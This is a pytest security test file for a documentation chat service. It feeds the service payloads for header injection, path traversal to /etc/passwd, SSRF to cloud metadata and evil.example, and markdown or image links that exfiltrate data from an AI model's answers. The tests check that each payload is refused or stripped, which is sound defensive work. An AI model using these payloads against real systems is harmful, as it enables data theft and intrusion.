"""Attacks through what is sent, read and answered: each is a row of docs/security.md."""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any, cast
from urllib.parse import urlsplit

import httpx
import pytest

from app.http.request_body import MAX_CONVERSATION_BYTES, MAX_DEPTH
from pipelines.answering.answerer import Generated
from pipelines.events import TextDelta
from pipelines.types import Usage
from tests.support.fakes import FakeCorpus, ScriptedEngine, answered_script
from tests.support.serving import World, build_world, open_client, open_server
from tests.support.sitemap_sites import HOST, Site, failure, read, redirect, sitemap
from tests.unit.pipelines.answering.test_chat_engine import PASSAGES, ScriptedAnswerer, build_engine

JSON = {"content-type": "application/json"}
MCP = {"accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-06-18"}
POSTS = ("/api/v1/chat", "/v1/chat/completions", "/mcp", "/api/v1/ingestions", "/api/v1/keys")


@pytest.fixture
async def client() -> AsyncIterator[httpx.AsyncClient]:
    """A client of the whole application, as its owner."""
    async with open_client(build_world(answered_script()), token="local-token") as opened:
        yield opened


# What is sent


@pytest.mark.parametrize("path", POSTS)
async def test_json_that_nests_too_deep_is_not_parsed(client: httpx.AsyncClient, path: str) -> None:
    for body in (
        b"[" * 50_000,
        b'{"question":' * 4_000 + b"1" + b"}" * 4_000,
        b'{"messages":' + b"[" * (MAX_DEPTH + 1) + b"]" * (MAX_DEPTH + 1) + b"}",
    ):
        answer = await client.post(path, content=body, headers={**JSON, **MCP})
        assert answer.status_code == 400, answer.text


@pytest.mark.parametrize("path", POSTS)
async def test_a_body_that_is_too_large_is_refused(client: httpx.AsyncClient, path: str) -> None:
    answer = await client.post(path, content=b" " * (MAX_CONVERSATION_BYTES + 1), headers={**JSON, **MCP})
    assert answer.status_code == 413


async def test_a_body_is_never_unpacked(client: httpx.AsyncClient) -> None:
    packed = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 100
    answer = await client.post("/api/v1/chat", content=packed, headers={**JSON, "content-encoding": "gzip"})
    assert answer.status_code == 400


@pytest.mark.parametrize("text", ["Why\x00?", "Why\ud800?", "\udfff", "\x00"])
@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/chat", {"question": "TEXT", "stream": False}),
        ("/api/v1/chat", {"question": "Why?", "corpus": "TEXT"}),
        ("/api/v1/chat", {"question": "Why?", "page": {"url": "https://a.b/TEXT", "selected_text": "TEXT"}}),
        ("/api/v1/chat", {"id": "TEXT", "messages": [{"role": "user", "parts": [{"type": "text", "text": "TEXT"}]}]}),
        ("/v1/chat/completions", {"model": "docs", "messages": [{"role": "user", "content": "TEXT"}]}),
        ("/v1/chat/completions", {"model": "TEXT", "messages": [{"role": "user", "content": "Why?"}]}),
        (
            "/mcp",
            {
                "jsonrpc": "2.0",
                "id": 1,
                "method": "tools/call",
                "params": {"name": "ask_docs", "arguments": {"question": "TEXT"}},
            },
        ),
    ],
)
async def test_nul_and_lone_surrogates_break_nothing(
    client: httpx.AsyncClient, path: str, body: dict[str, Any], text: str
) -> None:
    content = json.dumps(body).replace("TEXT", json.dumps(text)[1:-1]).encode()
    answer = await client.post(path, content=content, headers={**JSON, **MCP})
    assert answer.status_code < 500, answer.text
    assert "\x00" not in answer.text


@pytest.mark.parametrize("path", ["/api/v1/documents/%00", "/%00", "/assets/%00", "/v1/models/%00"])
async def test_nul_in_an_address_breaks_nothing(client: httpx.AsyncClient, path: str) -> None:
    assert (await client.get(path)).status_code in (404, 422)


INJECTED = "x%0d%0aset-cookie:%20owned=1"


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        (f"/{INJECTED}", {}),
        (f"/api/v1/documents/{INJECTED}", {}),
        (f"/api/v1/documents?corpus={INJECTED}&cursor={INJECTED}", {}),
        (f"/v1/models/{INJECTED}", {}),
        (f"/assets/{INJECTED}", {}),
        ("/api/v1/health", {"x-request-id": "a\tb: c"}),
        ("/api/v1/health", {"origin": "https://a.b\tset-cookie: owned=1"}),
    ],
)
async def test_no_input_becomes_a_header(client: httpx.AsyncClient, path: str, headers: dict[str, str]) -> None:
    answer = await client.get(path, headers=headers)
    assert "set-cookie" not in answer.headers
    assert not any("owned" in value or "\t" in value for value in answer.headers.values())


TRAVERSALS = (
    b"/assets/../main.py",
    b"/assets/..%2fmain.py",
    b"/assets/%2e%2e/main.py",
    b"/assets/%2e%2e%2fmain.py",
    b"/assets/..%5cmain.py",
    b"/assets/....//main.py",
    b"/assets/%252e%252e/main.py",
    b"/assets//etc/passwd",
    b"/assets/%2fetc%2fpasswd",
    b"/assets/./../../pyproject.toml",
    b"//etc/passwd",
    b"/api/v1/documents/..%2f..%2fetc%2fpasswd",
    b"/llms.txt/../../etc/passwd",
)


async def test_no_address_leads_out_of_the_assets() -> None:
    """As bytes on the wire: clients tidy addresses up before they send them."""
    async with open_server(build_world(answered_script())) as url:
        for path in TRAVERSALS:
            reader, writer = await asyncio.open_connection("127.0.0.1", urlsplit(url).port)
            writer.write(b"GET " + path + b" HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n")
            async with asyncio.timeout(10):
                answer = await reader.read()
            writer.close()
            assert answer.split(b" ")[1] in (b"404", b"422"), path
            assert b"import " not in answer
            assert b"root:" not in answer


# What is read


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1:8000/x",
        "http://169.254.169.254/latest/meta-data",
        "http://[::1]/x",
        "http://2130706433/x",
        "//evil.example/x",
        "https://docs.example.org@evil.example/x",
        "https://docs.example.org.evil.example/x",
        "https://docs.example.org:8443/x",
        "http://docs.example.org/x",
        "file:///etc/passwd",
        "ftp://docs.example.org/x",
        "gopher://docs.example.org/x",
        "https://[half",
    ],
)
async def test_a_site_leads_its_reader_nowhere_else(target: str) -> None:
    site = Site({f"{HOST}/sitemap.xml": sitemap(f"{HOST}/away", target), f"{HOST}/away": redirect(target)})
    outcomes = await read(site)
    assert failure(outcomes["/away"])
    assert all(request.url.host == "docs.example.org" for request in site.requests)
    assert all((request.url.scheme, request.url.port) == ("https", None) for request in site.requests)


# What is answered

EVIL = (
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[click](https://evil.example/?q=secret)",
    "[click](<https://evil.example/?q=secret>)",
    "![x](//evil.example/?q=secret)",
    "![x](https://example.org/docs/ranking?q=secret)",  # the page that is cited, with a message
    "![x](https://example.org@evil.example/docs)",
    "[click](javascript:fetch('//evil.example'))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '<img src="https://evil.example/?q=secret">',
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "www.evil.example/?q=secret",
    "[1](https://evil.example/?q=secret)",
    "!\\[x](https://evil.example/?q=secret)",
    "`![x` ](https://evil.example/?q=secret)",
    "![a ![b](https://evil.example/?q=1)](https://evil.example/?q=2)",
)
# What a renderer of markdown would fetch or make a link of (CommonMark 0.31, GFM autolinks).
LEADS = re.compile(r"\]\(\s*<?(?!#)[^)\s]|^\s*\[[^\]]+\]:|<[a-zA-Z/!]|https?://|www\.|\bjavascript:[^\s]*\)", re.M)


def _world(said: str, step: int) -> World:
    """The real engine and claim checker, over an answerer that says this in pieces of `step` characters."""
    text = f"BM25 saturates the weight of a repeated term. [1] {said} It is so. [2]"
    pieces = [TextDelta(text[at : at + step]) for at in range(0, len(text), step)]
    passages = [replace(one, url=f"https://example.org/docs/ranking#part-{n}") for n, one in enumerate(PASSAGES, 1)]
    engine, _ = build_engine(ScriptedAnswerer(*pieces, Generated("vendor/model", Usage(calls=1))), passages)
    world = build_world(answered_script())
    world.resources.corpora = {"docs": FakeCorpus(cast(ScriptedEngine, engine))}
    return world


async def _texts(client: httpx.AsyncClient) -> dict[str, str]:
    """What the answer says on each wire."""
    ask = {"question": "Why?"}
    openai = {"model": "docs", "messages": [{"role": "user", "content": "Why?"}]}
    tool = {"name": "ask_docs", "arguments": {"question": "Why?"}}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": tool}
    native = (await client.post("/api/v1/chat", json={**ask, "stream": False})).json()
    streamed = _events(await client.post("/api/v1/chat", json=ask))
    whole = (await client.post("/v1/chat/completions", json=openai)).json()
    chunks = _events(await client.post("/v1/chat/completions", json={**openai, "stream": True}))
    agent = (await client.post("/mcp", json=call, headers=MCP)).json()
    return {
        "native": native["text"],
        "ai_sdk": "".join(part["delta"] for part in streamed if part["type"] == "text-delta"),
        "openai": whole["choices"][0]["message"]["content"],
        "openai_stream": "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"]),
        "mcp": agent["result"]["structuredContent"]["text"],
    }


def _events(response: httpx.Response) -> list[Any]:
    data = [line.removeprefix("data: ") for line in response.text.splitlines() if line.startswith("data: ")]
    return [json.loads(one) for one in data if one != "[DONE]"]


@pytest.mark.parametrize("said", EVIL)
async def test_an_answer_leads_nowhere_but_to_its_sources(said: str) -> None:
    async with open_client(_world(said, step=3), token="local-token") as client:
        texts = await _texts(client)
    assert len(texts) == 5
    for wire, text in texts.items():
        assert text.startswith("BM25 saturates"), wire
        assert "It is so." in text, wire
        without_sources = text.replace("https://example.org/docs/ranking#part-", "")
        assert not LEADS.search(without_sources), (wire, text)


async def test_a_link_to_a_cited_section_stays() -> None:
    said = "See [the section](https://example.org/docs/ranking#part-1)."
    async with open_client(_world(said, step=5), token="local-token") as client:
        texts = await _texts(client)
    assert all("](https://example.org/docs/ranking#part-1)" in text for text in texts.values())
